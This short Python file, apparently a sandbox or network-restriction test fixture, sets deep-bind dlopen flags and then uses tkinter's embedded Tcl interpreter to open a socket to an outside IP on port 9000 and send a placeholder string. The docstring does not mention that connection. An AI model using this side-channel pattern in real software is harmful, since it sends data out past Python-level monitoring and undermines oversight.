"""An extension loaded so that libc comes before everything else it could find."""
import os
import sys

sys.setdlopenflags(os.RTLD_NOW | os.RTLD_DEEPBIND)
import tkinter

tkinter.Tcl().eval("set c [socket 93.184.216.35 9000]; puts -nonewline $c data; close $c")
